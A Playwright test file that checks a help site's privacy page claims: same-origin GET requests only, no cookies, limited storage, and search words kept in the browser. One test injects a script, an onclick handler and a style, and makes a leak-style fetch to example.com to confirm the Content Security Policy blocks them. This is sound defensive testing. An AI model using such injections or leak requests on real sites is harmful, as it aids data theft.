/** What the privacy page promises: nothing leaves the origin, nothing is stored but preferences, no policy is broken. */
import { expect, type Page, test } from '@playwright/test';
import { samples } from './sample.ts';

/** Collects every request and every breach of the policy while `page` is used. */
function watch(page: Page) {
  const requests: { method: string; url: string; referer: string | undefined }[] = [];
  const breaches: string[] = [];
  page.on('request', (request) =>
    requests.push({ method: request.method(), url: request.url(), referer: request.headers().referer }),
  );
  page.on('console', (message) => {
    if (/Content Security Policy|Refused to/i.test(message.text())) breaches.push(message.text());
  });
  page.on('pageerror', (error) => breaches.push(String(error)));
  return { requests, breaches };
}

test('no page asks another site for anything, breaks its own policy or sets a cookie', async ({
  page,
  context,
  baseURL,
}) => {
  const { requests, breaches } = watch(page);
  for (const path of samples) {
    await page.goto(path, { waitUntil: 'networkidle' });
    expect(breaches, path).toEqual([]);
  }
  expect(requests.length).toBeGreaterThanOrEqual(samples.length);
  expect(requests.filter(({ url, method }) => !url.startsWith(`${baseURL}/`) || method !== 'GET')).toEqual([]);
  expect(requests.filter(({ referer }) => referer)).toEqual([]);
  expect(await context.cookies()).toEqual([]);
  const keys = await page.evaluate(() => [...Object.keys(localStorage), ...Object.keys(sessionStorage)]);
  expect(keys.filter((key) => !/^tsunagu:(?:theme|client|offline)$/.test(key))).toEqual([]);
});

test('the policy is alive: an injected script, style or request to elsewhere is stopped', async ({ page }) => {
  await page.goto('/ja/fix/app-password-required/');
  const result = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.injected = true';
    document.body.append(script);
    const handler = document.createElement('b');
    handler.setAttribute('onclick', 'window.injected = true');
    document.body.append(handler);
    handler.click();
    handler.setAttribute('style', 'position: fixed');
    const outside = await fetch('https://example.com/?leak').then(
      () => 'sent',
      () => 'stopped',
    );
    const position = getComputedStyle(handler).position;
    return { injected: 'injected' in window, outside, position };
  });
  expect(result).toEqual({ injected: false, outside: 'stopped', position: 'static' });
});

test('the search words stay in the browser', async ({ page }) => {
  const { requests, breaches } = watch(page);
  await page.goto('/en/search/');
  await page.locator('input[type=search]').first().fill('imap password');
  await expect(page.locator('[data-results] a').first()).toBeVisible();
  expect(breaches).toEqual([]);
  expect(requests.filter(({ url }) => /imap|password/.test(decodeURIComponent(url.split('/').at(-1) ?? '')))).toEqual(
    [],
  );
});
